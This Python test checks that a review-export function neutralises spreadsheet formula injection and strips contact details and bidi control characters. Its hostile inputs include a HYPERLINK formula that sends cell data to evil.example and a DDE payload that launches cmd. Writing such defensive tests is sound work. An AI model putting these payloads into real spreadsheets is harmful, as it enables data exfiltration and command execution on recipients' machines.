"""`review export` goes to reviewers outside the project: no live formula, no contact detail, no bidi control."""

from __future__ import annotations

import openpyxl
import pandas as pd

from soa_analysis.report.synthetic import make_synthetic_processed
from soa_analysis.tagging import export_review

FORMULA = '=HYPERLINK("http://evil.example/x?"&A1, "FICTIONAL click")'
HOSTILE = [FORMULA, "+cmd|' /C calc'!A0 FICTIONAL", "@SUM(1+1) FICTIONAL",
           "FICTIONAL: contact Jamie Evidenceperson on 0131.496.0000 or jo (at) example (dot) org \u202eevil"]


def test_review_sheets_hold_no_formula_contact_or_bidi_control(tmp_path):
    processed = make_synthetic_processed(tmp_path / "p", n=6)
    ev = pd.read_parquet(processed / "tag_evidence.parquet")
    ev["sentence"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(ev))]
    ev["weight"] = 1.0
    ev.to_parquet(processed / "tag_evidence.parquet")
    subs = pd.read_parquet(processed / "submissions.parquet")
    subs["title"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(subs))]
    subs.to_parquet(processed / "submissions.parquet")

    csv_path, xlsx_path = export_review(processed, tmp_path / "review")

    book = openpyxl.load_workbook(xlsx_path)
    cells = [c for row in book["review"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no cell is a formula
    values = [str(c.value) for c in cells if c.value is not None] + [csv_path.read_text(encoding="utf-8")]
    text = "\n".join(values)
    assert "'" + FORMULA in text  # shown as text, with the apostrophe that defuses it
    for secret in ("Jamie Evidenceperson", "0131.496.0000", "jo (at) example", "\u202e"):
        assert secret not in text
    sheet = pd.read_csv(csv_path, keep_default_na=False)
    assert not sheet["sentences"].str.match(r"^[=+\-@]").any()
    assert not sheet["title"].str.match(r"^[=+\-@]").any()
